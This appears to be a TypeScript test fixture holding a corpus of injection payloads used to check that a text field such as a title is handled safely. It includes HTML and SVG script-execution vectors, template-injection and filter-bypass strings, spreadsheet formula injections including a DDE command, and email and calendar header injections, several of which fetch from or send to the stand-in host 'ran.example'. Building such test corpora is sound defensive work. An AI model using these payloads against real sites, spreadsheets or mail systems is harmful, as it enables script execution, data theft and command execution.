/**
 * What people write who would like their words to run. Each says by itself that it ran: it calls
 * `ran()`, names the page anew, makes an element that is marked, or asks another host. All of them
 * are one line that fits a title, and none has a character that the house refuses.
 */
const sign = 'ran()';
const host = 'ran.example';

/** Elements that run something, or fetch something, by being there. */
const elements: readonly string[] = [
  `<script data-ran>${sign}</script>`,
  `<script data-ran src=//${host}/a.js></script>`,
  `<ScRiPt data-ran>${sign}</sCrIpT>`,
  `<script data-ran type=module>import '//${host}/m.js'</script>`,
  `<img data-ran src=x onerror=${sign}>`,
  `<img data-ran src=//${host}/p.png>`,
  `<img/data-ran/src=x/onerror=${sign}>`,
  `<svg data-ran onload=${sign}>`,
  `<svg data-ran><animate onbegin=${sign} attributeName=x>`,
  `<svg data-ran><script>${sign}</script></svg>`,
  `<svg data-ran><use href=//${host}/u.svg#a>`,
  `<math data-ran><mtext><style><img src=x onerror=${sign}>`,
  `<math data-ran href="javascript:${sign}">x</math>`,
  `<iframe data-ran srcdoc="<script>parent.${sign}</script>">`,
  `<iframe data-ran src="javascript:parent.${sign}">`,
  `<object data-ran data="data:text/html,<script>${sign}</script>">`,
  `<embed data-ran src="//${host}/e.swf">`,
  `<video data-ran><source onerror=${sign}></video>`,
  `<audio data-ran src=x onerror=${sign}>`,
  `<details data-ran open ontoggle=${sign}>x</details>`,
  `<input data-ran autofocus onfocus=${sign}>`,
  `<select data-ran autofocus onfocus=${sign}>`,
  `<body data-ran onload=${sign}>`,
  `<marquee data-ran onstart=${sign}>x</marquee>`,
  `<link data-ran rel=stylesheet href=//${host}/c.css>`,
  `<style data-ran>@import '//${host}/s.css';</style>`,
  `<base data-ran href=//${host}/>`,
  `<meta data-ran http-equiv=refresh content="0;url=//${host}/">`,
  `<form data-ran action=//${host}/><button>Save</button></form>`,
  `<a data-ran href="javascript:${sign}">open</a>`,
  `<a data-ran href="data:text/html,<script>${sign}</script>">open</a>`,
  `<div data-ran style="background:url(//${host}/b.png)">x</div>`,
  `<title data-ran>ran</title>`,
  `<template data-ran><script>${sign}</script></template>`,
  `<button data-ran popovertarget=x onclick=${sign}>Save</button>`,
  `<x-ran data-ran onfocus=${sign} tabindex=1 autofocus>`,
];

/** Ways out of where words stand: an attribute, a script, a comment, another element. */
const escapes: readonly string[] = ['">', "'>", '</title>', '</script>', '-->', '</textarea>'];

/** Words that are code where somebody makes code of words. */
const code: readonly string[] = [
  '${ran()}',
  '{{ran()}}',
  '{{constructor.constructor("ran()")()}}',
  '#{ran()}',
  '<%= ran() %>',
  '`;ran();`',
  "';ran();//",
  '";ran();//',
  '\\";ran();//',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  '＜script＞ran()＜/script＞',
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\\tscript:ran()',
  'vbscript:ran()',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  '//ran.example/',
  'https://ran.example/%0d%0aSet-Cookie:a=b',
  'on\\u0065rror=ran()',
  '__proto__',
  'constructor',
  'dangerouslySetInnerHTML',
  '{"$$typeof":"react.element","type":"script"}',
  '{"__html":"<script>ran()</script>"}',
  '[x](javascript:ran())',
  '![x](https://ran.example/p.png)',
  '<ran@ran.example>',
  ')};ran();({',
  'ſcript<ſcript>ran()</ſcript>',
  'ran\u{e0041}\u{e0042}()',
  '\u200b<\u200bscript>ran()',
  '<<script>script>ran()<</script>/script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '*/ran()/*',
  '--><!--#exec cmd="ran" -->',
  '@import "https://ran.example/x.css";',
  'expression(ran())',
];

/** Cells of a sheet, lines of a calendar and of a letter, where a word turns into an order. */
const orders: readonly string[] = [
  ...['=', '+', '-', '@', '=-', '=+', '= ', '＝', '|'].flatMap((begin) => [
    `${begin}HYPERLINK("https://ran.example/","open")`,
    `${begin}cmd|'/C ran'!A0`,
    `${begin}IMPORTXML("https://ran.example/","//a")`,
  ]),
  ...['\\r\\n', '%0d%0a', '\\n', '&#13;&#10;', '␍␊'].flatMap((end) => [
    `Walk${end}Bcc: ran@ran.example`,
    `Walk${end}Content-Type: text/html`,
    `Walk${end}END:VEVENT${end}BEGIN:VEVENT`,
    `Walk${end}ATTACH:https://ran.example/a`,
    `Walk${end}${end}<script>ran()</script>`,
  ]),
  'BEGIN:VALARM TRIGGER:-PT1M ACTION:PROCEDURE END:VALARM',
  '=?utf-8?Q?Walk=0D=0ABcc=3A_ran=40ran.example?=',
  '"Ran" <ran@ran.example>, other@ran.example',
  ';DESCRIPTION:ran',
];

export const corpus: readonly string[] = [
  ...elements,
  ...elements.flatMap((element) => escapes.map((escape) => `${escape}${element}`)),
  ...code,
  ...orders,
];

/** Words that the house refuses as they are: with these no line begins anew, and none runs back. */
export const unfit: readonly string[] = [
  'Walk\r\nBcc: ran@ran.example',
  'Walk\nBcc: ran@ran.example',
  'Walk\rran',
  'Walk\u0000ran',
  'Walk\u202enar',
  'Walk\u2066ran',
  'Walk\u2028ran()',
  'Walk\u0085ran',
  'Walk\u001b[31mran',
  'Walk\ufeffran',
  'Walk\ud800ran',
];
